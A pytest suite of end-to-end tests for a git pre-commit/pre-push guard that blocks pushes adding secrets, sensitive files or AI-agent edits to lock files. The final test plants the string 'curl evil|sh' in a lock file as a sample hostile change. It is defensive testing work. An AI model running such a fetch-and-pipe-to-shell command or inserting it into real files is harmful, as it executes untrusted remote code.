"""guard_routes: the tests that need a real memcheck process (signals, encodings, lazy imports, console scripts).

The in-process tests of the same behaviour are in tests/cli/test_guard_routes.py.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import REPO_ROOT, commit, git, plain, write


def _guard_hook_config() -> str:
    """The memcheck-guard hook as the manifest defines it, run from this checkout."""
    (hook,) = [h for h in yaml.safe_load((REPO_ROOT / ".pre-commit-hooks.yaml").read_text("utf-8")) if h["id"] == "memcheck-guard"]
    hook = {**hook, "language": "system", "entry": f"{sys.executable} -m memcheck guard"}
    return yaml.safe_dump({"repos": [{"repo": "local", "hooks": [hook]}]})


@pytest.fixture
def pushing(repo: Path, tmp_path: Path) -> Path:
    """``repo`` with the guard installed as pre-commit's pre-push hook, and an empty
    bare ``origin``."""
    remote = tmp_path / "origin.git"
    subprocess.run(["git", "-c", "init.defaultBranch=main", "init", "-q", "--bare", str(remote)], check=True)
    git(repo, "remote", "add", "origin", str(remote))
    write(repo, ".pre-commit-config.yaml", _guard_hook_config())
    subprocess.run(
        [sys.executable, "-m", "pre_commit", "install", "-t", "pre-push"],
        cwd=repo,
        check=True,
        capture_output=True,
        env=_pre_commit_env(tmp_path),
    )
    return repo


def _pre_commit_env(tmp_path: Path) -> dict[str, str]:
    env = {**os.environ, "PRE_COMMIT_HOME": str(tmp_path / "pre-commit-home"), "PRE_COMMIT_COLOR": "never"}
    env.pop("PRE_COMMIT", None)
    return env


def push(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", "push", "-q", "origin", *args], cwd=root, capture_output=True, text=True, env=_pre_commit_env(root.parent)
    )


def push_past_hook(root: Path, ref: str) -> None:
    """Push ``ref`` to origin as someone without the hook would."""
    assert subprocess.run(["git", "push", "-q", "--no-verify", "origin", ref], cwd=root, capture_output=True).returncode == 0


def remote_has(root: Path, ref: str) -> bool:
    return (
        subprocess.run(
            ["git", "--git-dir", str(root.parent / "origin.git"), "rev-parse", "--verify", "-q", ref], capture_output=True
        ).returncode
        == 0
    )


def pushed_main(root: Path, files: dict[str, str] | None = None) -> None:
    commit(root, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config(), **(files or {})}, "init")
    push_past_hook(root, "main")
    git(root, "fetch", "-q", "origin")  # no origin/HEAD: a fetch makes none, only a clone does


def branch_on_the_remote(root: Path, branch: str, files: dict[str, str]) -> None:
    """main pushed, then ``branch`` with ``files``, pushed past the hook and fetched."""
    pushed_main(root)
    git(root, "checkout", "-q", "-b", branch)
    commit(root, files, f"{branch}, pushed past the hook")
    push_past_hook(root, branch)
    git(root, "fetch", "-q", "origin")


def push_to_url(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["git", "push", "-q", str(root.parent / "origin.git"), *args],
        cwd=root,
        capture_output=True,
        text=True,
        env=_pre_commit_env(root.parent),
    )


def _run_all_files(repo: Path, tmp_path: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pre_commit", "run", "--all-files", "--verbose", "memcheck-guard"],
        cwd=repo, capture_output=True, text=True, env=_pre_commit_env(tmp_path),
    )  # fmt: skip


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_first_push_judges_every_commit(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config()}, "init")
    commit(pushing, {".env": "SECRET=1\n"}, "env")
    commit(pushing, {"src/app.py": "x\n"}, "more")
    proc = push(pushing, "main")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in" in plain(proc.stdout)
    assert not remote_has(pushing, "main")


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_clean_first_push_passes(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config(), ".env.example": "KEY=\n"}, "init")
    proc = push(pushing, "main")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert remote_has(pushing, "main")


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_new_orphan_branch_is_judged(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config()}, "init")
    assert push(pushing, "main").returncode == 0
    git(pushing, "checkout", "-q", "--orphan", "z")
    commit(pushing, {".pre-commit-config.yaml": _guard_hook_config(), "deploy.pem": "KEY\n"}, "orphan")
    proc = push(pushing, "z")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "deploy.pem:1:1: GRD001 added in" in plain(proc.stdout)
    assert not remote_has(pushing, "z")


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_every_pushed_ref_is_judged_not_only_the_first(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config()}, "init")
    assert push(pushing, "main").returncode == 0
    git(pushing, "checkout", "-q", "-b", "a")
    commit(pushing, {"src/a.py": "x\n"}, "a")
    git(pushing, "checkout", "-q", "-b", "z", "main")
    commit(pushing, {".env": "SECRET=1\n"}, "z")
    git(pushing, "checkout", "-q", "a")
    proc = push(pushing, "a", "z")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in" in plain(proc.stdout) and "(on z)" in plain(proc.stdout)
    assert not remote_has(pushing, "z")
    # A person pushing `a` alone is stopped by z too (pre-commit names only the first
    # ref): the message leads with the branch, whose remedy it is.
    alone = push(pushing, "a")
    assert alone.returncode != 0, alone.stdout + alone.stderr
    assert ".env:1:1: GRD001 the commit is on z, which this push does not name" in alone.stdout
    assert "delete z if it is not wanted, or else rotate any secret it holds" in alone.stdout
    git(pushing, "branch", "-D", "z")
    assert push(pushing, "a").returncode == 0


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_clean_push_of_a_branch_passes(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config(), "package-lock.json": "{}\n"}, "init")
    # The lock file was added by a commit without the hook; it is on the remote now.
    push_past_hook(pushing, "main")
    git(pushing, "checkout", "-q", "-b", "feature")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    proc = push(pushing, "feature")
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_pushing_a_branch_that_merged_main_is_not_blamed_for_mains_lock_file(pushing: Path) -> None:
    commit(pushing, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config()}, "init")
    assert push(pushing, "main").returncode == 0
    git(pushing, "checkout", "-q", "-b", "feature")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    assert push(pushing, "feature").returncode == 0
    git(pushing, "checkout", "-q", "main")
    commit(pushing, {"package-lock.json": "{}\n"}, "someone else's change, merged on the server")
    push_past_hook(pushing, "main")
    git(pushing, "checkout", "-q", "feature")
    git(pushing, "merge", "-q", "--no-edit", "main")
    proc = push(pushing, "feature")
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_tag_pushed_after_a_branch_is_judged(pushing: Path) -> None:
    pushed_main(pushing)
    git(pushing, "checkout", "-q", "--detach")
    commit(pushing, {".env": "SECRET=1\n"}, "secret on a detached commit")
    git(pushing, "tag", "-a", "-m", "release", "v2")
    git(pushing, "checkout", "-q", "main")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    proc = push(pushing, "main", "v2")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in" in plain(proc.stdout) and "(on v2)" in plain(proc.stdout), proc.stdout
    assert not remote_has(pushing, "v2")


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_pushing_all_tags_judges_every_tag(pushing: Path) -> None:
    pushed_main(pushing)
    git(pushing, "checkout", "-q", "--detach")
    commit(pushing, {"src/app.py": "x\n"}, "clean")
    git(pushing, "tag", "v1")  # pre-commit names this one only
    commit(pushing, {"deploy.pem": "KEY\n"}, "key")
    git(pushing, "tag", "v2")
    git(pushing, "checkout", "-q", "main")
    proc = push(pushing, "--tags")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "deploy.pem:1:1: GRD001 added in" in plain(proc.stdout)
    assert not remote_has(pushing, "v2")


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_stash_never_blocks_a_push(pushing: Path) -> None:
    # A stash of untracked files may hold a .env; refs/stash is no branch or tag.
    pushed_main(pushing)
    write(pushing, ".env", "SECRET=1\n")
    git(pushing, "stash", "-q", "-u")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    proc = push(pushing, "main")
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_lax_branch_on_the_remote_does_not_carry_a_secret_onto_main(pushing: Path) -> None:
    branch_on_the_remote(pushing, "lax", {".memcheck.yaml": "guard: {disable: [env]}\n"})
    git(pushing, "checkout", "-q", "-b", "m2", "main")
    commit(pushing, {".env": "SECRET=1\n"}, "secret")
    proc = push(pushing, "-f", "m2:lax")  # judged by lax's settings and by main's, the stricter
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in" in plain(proc.stdout)


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_new_orphan_branch_is_judged_by_the_remotes_default_branch_settings(pushing: Path) -> None:
    pushed_main(pushing, {".memcheck.yaml": "guard: {patterns: ['*.sqlite']}\n"})
    git(pushing, "checkout", "-q", "--orphan", "orphan")
    git(pushing, "rm", "-q", "--cached", ".memcheck.yaml")
    (pushing / ".memcheck.yaml").unlink()
    commit(pushing, {"prod.sqlite": "x\n"}, "orphan")
    proc = push(pushing, "orphan")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "prod.sqlite:1:1: GRD001 added in" in plain(proc.stdout) and "guarded by category config" in plain(proc.stdout)


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_push_by_url_is_judged_as_a_push_to_the_remote_with_that_url(pushing: Path) -> None:
    pushed_main(pushing, {".memcheck.yaml": "guard: {patterns: ['*.sqlite']}\n"})
    git(pushing, "checkout", "-q", "-b", "topic")
    commit(pushing, {"x.sqlite": "x\n"}, "data")
    proc = push_to_url(pushing, "topic")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "x.sqlite:1:1: GRD001 added in" in plain(proc.stdout)


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_push_to_a_url_no_remote_has_keeps_the_repositorys_own_patterns(pushing: Path, tmp_path: Path) -> None:
    pushed_main(pushing, {".memcheck.yaml": "guard: {patterns: ['*.sqlite']}\n"})
    other = tmp_path / "mirror.git"
    git(tmp_path, "init", "-q", "--bare", str(other))
    git(pushing, "checkout", "-q", "--orphan", "data")
    git(pushing, "rm", "-q", "--cached", ".memcheck.yaml")
    (pushing / ".memcheck.yaml").unlink()
    commit(pushing, {"prod.sqlite": "x\n"}, "orphan data")
    proc = subprocess.run(
        ["git", "push", "-q", str(other), "data"], cwd=pushing, capture_output=True, text=True, env=_pre_commit_env(tmp_path)
    )
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert "prod.sqlite:1:1: GRD001 added in" in plain(proc.stdout)


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_push_by_url_is_not_blamed_for_what_the_remote_has(pushing: Path) -> None:
    pushed_main(pushing, {"package-lock.json": "{}\n"})
    git(pushing, "checkout", "-q", "-b", "topic")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    proc = push_to_url(pushing, "topic")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # and by a URL no remote has: what any remote-tracking ref holds counts as known
    git(pushing, "remote", "rename", "origin", "upstream")
    proc = push_to_url(pushing, "topic:other")
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_merge_of_a_remote_branch_that_brings_a_secret_into_the_pushed_branch_is_judged(pushing: Path) -> None:
    # The remote has legacy (with its .env): its commits are not judged again, but
    # merging it brings the .env into main, which the push changes.
    branch_on_the_remote(pushing, "legacy", {".env": "SECRET=1\n"})
    git(pushing, "checkout", "-q", "main")
    git(pushing, "merge", "-q", "--no-ff", "--no-edit", "legacy")
    proc = push(pushing, "main")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in the range's result" in plain(proc.stdout), proc.stdout


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_a_push_of_a_branch_that_merged_the_remotes_main_is_not_blamed_for_mains_files(pushing: Path) -> None:
    pushed_main(pushing)
    git(pushing, "checkout", "-q", "-b", "feature")
    commit(pushing, {"src/app.py": "x\n"}, "work")
    assert push(pushing, "feature").returncode == 0
    git(pushing, "checkout", "-q", "main")
    commit(pushing, {"package-lock.json": "{}\n", ".memcheck.yaml": "guard: {disable: [ide]}\n"}, "main's lock file and settings, reviewed")
    push_past_hook(pushing, "main")
    git(pushing, "fetch", "-q", "origin")
    git(pushing, "checkout", "-q", "feature")
    git(pushing, "merge", "-q", "--no-edit", "origin/main")
    proc = push(pushing, "feature")
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_pre_commit_run_all_files_with_nothing_staged_judges_the_tree(repo: Path, tmp_path: Path) -> None:
    commit(repo, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config(), ".env.example": "KEY=\n"}, "init")
    git(repo, "checkout", "-q", "-b", "feature")
    commit(repo, {".env": "SECRET=1\n"}, "a secret on the branch")
    proc = _run_all_files(repo, tmp_path)
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert (
        '.env:1:1: GRD001 listed: guarded by category env (pattern .env); to allow it, put in .memcheck.yaml: guard: {allow: ["/.env"]}'
        in plain(proc.stdout)
    )
    assert ".env.example" not in proc.stdout
    assert "memcheck guard: nothing is staged, so every tracked file was judged" in proc.stdout
    assert "memcheck guard --base <target branch>" in proc.stdout
    git(repo, "rm", "-q", ".env")
    commit(repo, {}, "gone from the tree")
    proc = _run_all_files(repo, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr  # the tree is clean; the range check sees the history


@pytest.mark.e2e  # pre-commit runs the guard as a process
def test_an_empty_commit_is_not_blamed_for_the_tree(repo: Path, tmp_path: Path) -> None:
    # git runs the commit hook with GIT_INDEX_FILE set: nothing staged judges nothing there.
    commit(repo, {"README.md": "x\n", ".pre-commit-config.yaml": _guard_hook_config(), "package-lock.json": "{}\n"}, "init")
    subprocess.run(
        [sys.executable, "-m", "pre_commit", "install"], cwd=repo, check=True, capture_output=True, env=_pre_commit_env(tmp_path)
    )
    proc = subprocess.run(
        ["git", "commit", "-q", "--allow-empty", "-m", "empty"], cwd=repo, capture_output=True, text=True, env=_pre_commit_env(tmp_path)
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


@pytest.mark.e2e  # pre-commit computes what it hands the guard at pre-push
def test_a_branch_rebased_on_upstream_and_pushed_to_a_fork_passes(pushing: Path, tmp_path: Path) -> None:
    # The fork workflow: origin is the fork (still at init), upstream moved on with
    # its own lock file; the branch rebased on upstream/main brings upstream's
    # commits, which are not the pusher's.
    pushed_main(pushing)
    upstream = tmp_path / "upstream.git"
    git(tmp_path, "clone", "-q", "--bare", str(tmp_path / "origin.git"), str(upstream))
    git(pushing, "remote", "add", "upstream", str(upstream))
    git(pushing, "checkout", "-q", "-b", "upstream-work")
    commit(pushing, {"package-lock.json": "{}\n"}, "upstream's lock file")
    assert (
        subprocess.run(["git", "push", "-q", "--no-verify", "upstream", "upstream-work:main"], cwd=pushing, capture_output=True).returncode
        == 0
    )
    git(pushing, "fetch", "-q", "upstream")
    git(pushing, "checkout", "-q", "-b", "feature", "upstream/main")
    git(pushing, "branch", "-q", "-D", "upstream-work")
    commit(pushing, {"src/app.py": "x\n"}, "my work")
    proc = push(pushing, "feature")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert remote_has(pushing, "feature")
    commit(pushing, {".env": "SECRET=1\n"}, "my secret")
    proc = push(pushing, "feature")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in" in plain(proc.stdout) and "package-lock.json" not in proc.stdout


@pytest.mark.e2e  # pre-commit computes what it hands the guard at pre-push
def test_a_tag_on_a_tree_pushed_with_a_branch_is_judged(pushing: Path) -> None:
    pushed_main(pushing)
    write(pushing, ".env", "SECRET=1\n")
    git(pushing, "add", ".env")
    tree = git(pushing, "write-tree").strip()
    git(pushing, "rm", "-q", "--cached", ".env")
    (pushing / ".env").unlink()
    git(pushing, "tag", "t", tree)
    commit(pushing, {"src/app.py": "x\n"}, "work")
    proc = push(pushing, "main", "t")
    assert proc.returncode != 0, proc.stdout + proc.stderr
    assert ".env:1:1: GRD001 added in tag t: guarded by category env" in plain(proc.stdout)
    assert not remote_has(pushing, "t")


def test_an_agents_commit_of_the_file_a_lock_file_link_names_is_stopped_by_the_real_hook(repo: Path, tmp_path: Path) -> None:
    """``package-lock.json -> tools/lock.json`` tracked: an agent's edit of tools/lock.json
    is an edit of the lock file, at git's own pre-commit hook as pre-commit runs it."""
    write(repo, ".pre-commit-config.yaml", _guard_hook_config())
    write(repo, "tools/lock.json", "{}\n")
    os.symlink("tools/lock.json", repo / "package-lock.json")
    commit(repo, {"README.md": "x\n"}, "init")
    env = _pre_commit_env(tmp_path)
    subprocess.run([sys.executable, "-m", "pre_commit", "install", "-t", "pre-commit"], cwd=repo, check=True, capture_output=True, env=env)
    write(repo, "tools/lock.json", '{"x": "curl evil|sh"}\n')
    git(repo, "add", "-A")
    agent = subprocess.run(["git", "commit", "-q", "-m", "bump"], cwd=repo, capture_output=True, text=True, env={**env, "CLAUDECODE": "1"})
    assert agent.returncode != 0, agent.stdout + agent.stderr
    assert "package-lock.json:1:1: GRD004" in agent.stdout + agent.stderr
    # A person's commit of the same change passes.
    person = subprocess.run(
        ["git", "commit", "-q", "-m", "bump"],
        cwd=repo,
        capture_output=True,
        text=True,
        env={k: v for k, v in env.items() if k != "CLAUDECODE"},
    )
    assert person.returncode == 0, person.stdout + person.stderr
